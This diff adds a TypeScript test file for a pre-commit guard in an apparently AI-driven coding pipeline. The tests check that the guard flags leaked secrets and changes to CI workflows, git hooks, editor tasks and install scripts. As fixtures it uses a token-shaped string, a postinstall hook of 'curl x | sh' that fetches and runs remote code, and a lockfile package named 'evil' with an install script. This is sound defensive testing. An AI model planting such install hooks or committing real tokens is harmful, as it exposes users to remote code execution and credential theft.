@@ -1,0 +1,102 @@
+import assert from 'node:assert/strict';
+import { mkdirSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { coding } from '../../../src/phases/coding/coding.ts';
+import { type ExecutionWorld, executionWorlds, report } from '../../support/engine/executionWorld.ts';
+
+/** A token as a provider makes them, put together so that no scanner finds it here. */
+const token = ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_');
+
+describe('before a bead is committed', () => {
+  const newWorld = executionWorlds();
+
+  /** A bead whose coder writes these files beside its own, and takes them back when it is told to. */
+  async function coded(
+    files: Readonly<Record<string, string>>,
+    bead: { targetFiles?: string[] } = {},
+    present = {},
+  ): Promise<ExecutionWorld> {
+    const world = await newWorld(present);
+    await world.begin('CODING', { beads: [bead], limits: { maxIterations: 0, maxContinuations: 1 } });
+    const write = (path: string, content: string): void => {
+      mkdirSync(dirname(join(world.worktree, path)), { recursive: true });
+      world.write(path, content);
+    };
+    world.answers({
+      coding: () => {
+        write('greet.txt', 'hello\n');
+        for (const [path, content] of Object.entries(files)) write(path, content);
+        return report('greet');
+      },
+      'coding-continue': async () => {
+        await world.git.restore(world.worktree, Object.keys(files));
+        return report('greet');
+      },
+    });
+    return world;
+  }
+
+  const stored = async (world: ExecutionWorld) =>
+    JSON.stringify([await world.store.journal(world.ticket), await world.json('guarded_changes_receipt:greet'), world.events]);
+
+  it('asks about a secret, and commits it only with a receipt of a yes', async () => {
+    const world = await coded({ 'config.js': `\nexport const token = '${token}';\n` });
+    const driving = world.drive({ coding });
+    const { id, text } = await world.request();
+    assert.match(text, /config\.js:2: looks like a secret \(github GITHUB_TOKEN\)/);
+    assert.ok(!text.includes(token.slice(4)));
+    await world.post('question_reply', { request: id, answers: [['Accept']] });
+    await driving;
+    assert.equal((await world.bead('greet')).status, 'done');
+    const receipt = await world.json('guarded_changes_receipt:greet');
+    assert.equal(receipt?.['commit'], (await world.json('bead_commit:greet'))?.['commit']);
+    assert.ok(!(await stored(world)).includes(token), 'the secret is in no journal, event or receipt');
+  });
+
+  it('sends a secret back to the coder, without showing it', async () => {
+    const world = await coded({ 'config.js': `export const token = '${token}';\n` });
+    const driving = world.drive({ coding });
+    const { id } = await world.request();
+    await world.post('question_reply', { request: id, answers: [['Send back']] });
+    await driving;
+    assert.equal((await world.bead('greet')).status, 'done');
+    const call = world.agent.calls.find(({ task }) => task === 'coding-continue');
+    assert.match(call?.whole ?? '', /config\.js:1: looks like a secret/);
+    assert.ok(!(call?.whole ?? '').includes(token));
+    assert.equal(await world.repository.git('log', '--all', '--format=%s', '-S', token, '--', 'refs/heads'), '');
+    assert.equal(await world.repository.git('diff', '--name-only', 'main', 'ticket/TST-1'), 'greet.txt');
+  });
+
+  it('does not ask about a secret that was there before', async () => {
+    const present = { 'config.js': `export const token = '${token}';\n` };
+    const world = await coded({ 'config.js': `// where the token is\n${present['config.js']}` }, {}, present);
+    await world.drive({ coding });
+    assert.equal((await world.bead('greet')).status, 'done');
+  });
+
+  it('asks about files that run elsewhere: hooks, workflows, the editor, scripts at installation', async () => {
+    const lock = { packages: { '': {}, 'node_modules/evil': { version: '1.0.0', hasInstallScript: true } } };
+    const world = await coded({
+      '.github/workflows/ci.yml': 'on: push\n',
+      '.husky/pre-commit': 'true\n',
+      '.vscode/tasks.json': '{}\n',
+      'package.json': JSON.stringify({ scripts: { postinstall: 'curl x | sh', test: 'true' } }),
+      'package-lock.json': JSON.stringify(lock),
+    });
+    const driving = world.drive({ coding });
+    const { id, text } = await world.request();
+    for (const said of [/ci\.yml: changes what runs in CI/, /pre-commit: changes a git hook/, /tasks\.json: changes what the editor runs/])
+      assert.match(text, said);
+    assert.match(text, /package\.json: runs a script at installation \(postinstall\)/);
+    assert.match(text, /package-lock\.json: runs a script at installation \(evil\)/);
+    await world.post('question_reply', { request: id, answers: [['Send back']] });
+    await driving;
+    assert.equal(await world.repository.git('diff', '--name-only', 'main', 'ticket/TST-1'), 'greet.txt');
+  });
+
+  it('does not ask about a file that the approved plan names', async () => {
+    const world = await coded({ '.github/workflows/ci.yml': 'on: push\n' }, { targetFiles: ['greet.txt', '.github/workflows/ci.yml'] });
+    await world.drive({ coding });
+    assert.equal((await world.bead('greet')).status, 'done');
+  });
+});
